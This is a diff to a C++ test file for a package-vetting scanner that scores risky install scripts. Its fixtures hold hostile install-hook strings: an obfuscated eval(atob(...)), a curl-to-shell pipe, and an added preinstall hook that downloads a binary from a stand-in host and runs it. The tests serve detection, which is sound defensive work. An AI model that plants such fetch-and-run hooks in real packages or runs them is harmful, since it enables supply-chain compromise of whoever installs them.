@@ -167,6 +167,11 @@ TEST(VetSource, InstallScriptsAreReadWithWhatTheyRun) {
     EXPECT_EQ(weight_of(read({{"a.js", "eval(atob('YWxlcnQoMSk7'))"}}, {{"install", "node a.js"}}), "S04"), 4.0);
     EXPECT_EQ(weight_of(read({{"run.sh", "curl -s https://h.example/x | sh"}}, {{"install", "sh run.sh"}}), "S08"),
               4.0 * 0.5);
+    EXPECT_EQ(weight_of(read({{"a.js", "require('child_process').exec('/bin/sh ./b.sh')"},
+                              {"b.sh", "curl http://h.example/x -o x; chmod +x x; ./x"}},
+                             {{"preinstall", "start /B node a.js & node a.js"}}),
+                        "S08"),
+              3.0);
     // What core-js does.
     const auto benign = read({{"postinstall.js", "console.log('thanks')"}},
                              {{"postinstall", "node -e \"try{require('./postinstall')}catch(e){}\""}});
@@ -242,8 +247,9 @@ TEST(VetSource, RowsOfTheTableNameSignalsAndAreOrderedByWeight) {
         const Combination& one = combinations()[i];
         ASSERT_NE(signal_named(one.signal), nullptr) << one.signal;
         EXPECT_LE(one.weight, signal_named(one.signal)->gravity == Gravity::critical ? 4.0 : 3.0);
-        if (i > 0 && combinations()[i - 1].signal == one.signal)
+        if (i > 0 && combinations()[i - 1].signal == one.signal) {
             EXPECT_GE(combinations()[i - 1].weight, one.weight) << one.what;
+        }
     }
 }
 
